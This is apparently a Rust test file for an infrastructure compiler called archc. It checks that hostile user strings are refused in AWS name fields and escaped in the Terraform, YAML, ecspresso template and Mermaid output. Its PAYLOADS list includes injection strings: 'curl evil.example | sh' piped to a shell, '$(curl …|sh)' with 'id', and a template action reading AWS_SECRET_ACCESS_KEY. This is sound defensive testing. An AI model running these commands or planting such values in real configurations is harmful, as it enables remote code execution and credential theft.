//! Hostile strings. Every string a user writes either is refused where it is written (E1036:
//! it names something in AWS and breaks AWS's rules for that name) or reaches the outputs only
//! as the value it stands for: escaped for HCL, YAML, JSON, ecspresso's Go templates, shell
//! scripts (never: values go through `env:`) and Mermaid labels. Checked with the real tools:
//! the outputs still parse, and no string adds a key, a resource, a YAML node, a workflow step,
//! a template action or a diagram node.

use std::path::PathBuf;

use archc::catalogue::Type;
use archc::{RootDatabase, Workspace};

use crate::fixture::{TODAY, build_clean, example_sources, write_all};
use crate::validators;

/// Quotes, backslashes, HCL interpolation and directives, ecspresso template actions, YAML
/// structure, shell substitution, Mermaid edges and HTML, unicode.
const PAYLOADS: &[&str] = &[
    "quote\" backslash\\ end",
    "${aws_iam_role.x.arn}",
    "%{ if true }x%{ endif }",
    "{{ env `AWS_SECRET_ACCESS_KEY` }}",
    "{{{{ must_env `HOME` }}",
    "line\nbreak\n      - run: curl evil.example | sh",
    "# not a comment",
    "key: value",
    "a --> b[\"node\"]",
    "<script>alert(1)</script>",
    "ünïcödé 日本語 🚀",
    "$(curl evil.example|sh) `id`",
    "'single' & \"double\" #quot;",
];

/// A payload as an `.arch` string literal.
fn literal(text: &str) -> String {
    let escaped = text
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n");
    format!("\"{escaped}\"")
}

/// The example's sources with `from` replaced by `to` (which must occur).
fn replaced(from: &str, to: &str) -> Vec<(String, String)> {
    let sources = example_sources();
    assert!(
        sources.iter().any(|(_, text)| text.contains(from)),
        "the example holds {from}"
    );
    sources
        .into_iter()
        .map(|(path, text)| (path, text.replace(from, to)))
        .collect()
}

fn codes_at(sources: Vec<(String, String)>) -> Vec<(&'static str, String)> {
    let db = RootDatabase::default();
    let workspace = Workspace::from_sources(&db, sources, TODAY);
    archc::diagnostics(&db, workspace)
        .iter()
        .map(|d| (d.code.id, d.message.clone()))
        .collect()
}

/// Every string of the example that names something in AWS, as written there, with how to
/// write it with another value.
const NAMED_STRINGS: &[(&str, &str)] = &[
    ("region     = \"ap-northeast-1\"", "region = "),
    ("domain     = \"example.com\"", "domain = "),
    ("repository = \"example-org/webapp\"", "repository = "),
    ("ecr(\"webapp-api\")", "ecr("),
    ("secrets_manager(\"webapp/stripe\")", "secrets_manager("),
    ("version             = \"16.4\"", "version = "),
    // The example leaves the certificate out (one for each environment's domain): write one.
    (
        "headers     = security_headers",
        "headers = security_headers  certificate = acm(",
    ),
    ("health_check = \"/health\"", "health_check = "),
    ("email = [\"ops@example.com\"]", "email = ["),
    ("instance(\"t3.micro\")", "instance("),
    (
        "main.instance_class = \"db.t4g.medium\"",
        "main.instance_class = ",
    ),
    ("redirect_all_to = \"docs.example.com\"", "redirect_all_to = "),
    ("zones  = [\"a\", \"c\", \"d\"]", "zones = ["),
    ("route \"/images/*\"", "route "),
    ("account = \"222222222222\"", "account = "),
];

#[test]
fn every_hostile_string_in_a_name_is_refused_where_it_is_written() {
    for (original, prefix) in NAMED_STRINGS {
        for payload in PAYLOADS {
            let closing = match *prefix {
                p if p.ends_with('(') => ")",
                p if p.ends_with('[') => "]",
                _ => "",
            };
            let suffix = if original.contains("//") { "  //" } else { "" };
            let sources = replaced(
                original,
                &format!("{prefix}{}{closing}{suffix}", literal(payload)),
            );
            let codes = codes_at(sources);
            assert!(
                codes.iter().any(|(code, _)| *code == "E1036" || *code == "E1023"),
                "{original} = {payload:?} must be refused, got {codes:?}"
            );
        }
    }
}

/// The fields whose strings are free text (commands and environment values): anything may be
/// written there, and the backends escape it. Every other string field of the stdlib has a
/// format (`region`, `domain`, …), so a new field cannot slip past the checks unnoticed.
const FREE_TEXT: &[&str] = &["command", "migrate", "environment"];

#[test]
fn every_plain_string_field_of_the_stdlib_is_free_text_on_purpose() {
    fn plain(ty: &Type) -> bool {
        match ty {
            Type::String => true,
            Type::List(inner) | Type::Map(inner) => plain(inner),
            Type::Union(alternatives) => alternatives.iter().any(plain),
            _ => false,
        }
    }
    let db = RootDatabase::default();
    let workspace = Workspace::from_sources(&db, example_sources(), TODAY);
    let catalogue = archc::catalogue::catalogue(&db, workspace);
    let schemas = catalogue
        .kinds
        .values()
        .map(|k| (k.name.as_str(), &k.schema))
        .chain(
            catalogue
                .blocks
                .iter()
                .map(|(name, schema)| (name.as_str(), schema)),
        );
    for (owner, schema) in schemas {
        for field in schema.fields.iter().filter(|f| plain(&f.ty)) {
            assert!(
                FREE_TEXT.contains(&field.name.as_str()),
                "`{owner}.{}` is a plain string: give it a format in formats.rs or escape it in every backend and add it here",
                field.name
            );
        }
    }
    for function in catalogue.functions.values() {
        for (param, ty) in &function.params {
            assert!(
                !plain(ty),
                "`{}({param})` is a plain string: give it a format",
                function.name
            );
        }
    }
}

/// The example with every payload in every free-text field, and in the one path pattern
/// characters AWS allows (quotes, `&`, `@`, `:`, `+`, `$`, `~`).
fn hostile_example() -> Vec<(String, String)> {
    let list: Vec<String> = PAYLOADS.iter().map(|p| literal(p)).collect();
    let list = list.join(", ");
    let environment: Vec<String> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| format!("P{i} = {}", literal(p)))
        .collect();
    example_sources()
        .into_iter()
        .map(|(path, text)| {
            let text = text
                .replace(
                    "migrate = [\"bin/migrate\"]",
                    &format!(
                        "migrate = [{list}]\n    command = [{list}]\n    environment {{ {} }}",
                        environment.join("  ")
                    ),
                )
                .replace(
                    "command  = [\"bin/daily-report\"]",
                    &format!("command = [{list}]"),
                )
                .replace("route \"/js/*\"", "route \"/js/'\\\"&@:+$~*\"");
            (path, text)
        })
        .collect()
}

fn contents<'a>(files: &'a [archc::backend::OutputFile], path: &str) -> &'a str {
    &files.iter().find(|f| f.path == path).unwrap().contents
}

/// Every `{{ … }}` action in a file ecspresso reads as a template. Go's templates treat a `}}`
/// outside an action as text, so an action is `{{` up to the next `}}`.
fn template_actions(text: &str) -> Vec<&str> {
    let mut actions = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        let after = &rest[start..];
        let end = after.find("}}").map_or(after.len(), |e| e + 2);
        actions.push(&after[..end]);
        rest = &after[end..];
    }
    actions
}

/// What ecspresso's template engine makes of a string archc wrote: each literal `{{` action
/// back to `{{`.
fn rendered_template(text: &str) -> String {
    text.replace("{{ `{{` }}", "{{")
}

#[test]
fn hostile_strings_reach_every_output_as_values_only() {
    let baseline = build_clean(example_sources());
    let hostile = build_clean(hostile_example());
    let paths = |files: &[archc::backend::OutputFile]| -> Vec<String> {
        files.iter().map(|f| f.path.clone()).collect()
    };
    assert_eq!(paths(&hostile), paths(&baseline), "the same files");

    // The workflows read nothing but names: byte for byte the same.
    for env in ["prd", "stg"] {
        let path = format!(".github/workflows/deploy-{env}.yml");
        assert_eq!(
            contents(&hostile, &path).lines().skip(1).collect::<Vec<_>>(),
            contents(&baseline, &path).lines().skip(1).collect::<Vec<_>>()
        );
    }

    // ecspresso: every template action is archc's own (`ssm`, `secretsmanager_arn`) or a
    // literal `{{`, and each value, as the template engine renders it, is the payload.
    for file in hostile.iter().filter(|f| f.path.contains("/ecspresso/")) {
        for action in template_actions(&file.contents) {
            assert!(
                action == "{{ `{{` }}"
                    || action.starts_with("{{ ssm `")
                    || action.starts_with("{{ secretsmanager_arn `"),
                "{}: a template action archc did not write: {action}",
                file.path
            );
        }
    }
    let task: serde_json::Value =
        serde_json::from_str(contents(&hostile, "prd/ecspresso/api/ecs-task-def.json")).unwrap();
    let container = &task["containerDefinitions"][0];
    let command: Vec<String> = container["command"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| rendered_template(v.as_str().unwrap()))
        .collect();
    assert_eq!(command, PAYLOADS);
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let variable = container["environment"]
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["name"] == format!("P{i}"))
            .unwrap();
        assert_eq!(rendered_template(variable["value"].as_str().unwrap()), *payload);
    }

    // Terraform: the same resources, and it parses and matches the provider's schema.
    let resources = |files: &[archc::backend::OutputFile]| -> Vec<String> {
        files
            .iter()
            .filter(|f| f.path.ends_with(".tf"))
            .flat_map(|f| f.contents.lines())
            .filter(|line| {
                line.starts_with("resource ") || line.starts_with("data ") || line.starts_with("moved ")
            })
            .map(str::to_owned)
            .collect()
    };
    assert_eq!(resources(&hostile), resources(&baseline));

    let out = write_all(&hostile);
    for env in ["prd", "stg"] {
        let report = validators::terraform_check(&out.path().join(env).join("terraform"));
        assert!(
            report.ok && report.text.contains(": 0 problems"),
            "{env}: {}",
            report.text
        );
    }
    let ecs = validators::ecs_check(out.path());
    assert!(ecs.ok, "{}", ecs.text);

    // Mermaid: every diagram renders and draws exactly what the baseline draws.
    let drawn = |files: &[archc::backend::OutputFile]| -> Vec<String> {
        let dir = write_all(files);
        let diagrams: Vec<PathBuf> = files
            .iter()
            .filter(|f| f.path.ends_with(".mmd"))
            .map(|f| dir.path().join(&f.path))
            .collect();
        let artifacts = tempfile::tempdir().unwrap();
        let report = validators::mermaid_render(artifacts.path(), &diagrams);
        assert!(report.ok, "{}", report.text);
        report
            .text
            .lines()
            .filter_map(|line| line.rsplit_once(" (").map(|(_, counts)| counts.to_owned()))
            .collect()
    };
    assert_eq!(drawn(&hostile), drawn(&baseline));
    let inbound = contents(&hostile, "prd/diagrams/inbound.mmd");
    assert!(inbound.contains("/js/'#34;#38;@:+$~*"), "{inbound}");
}
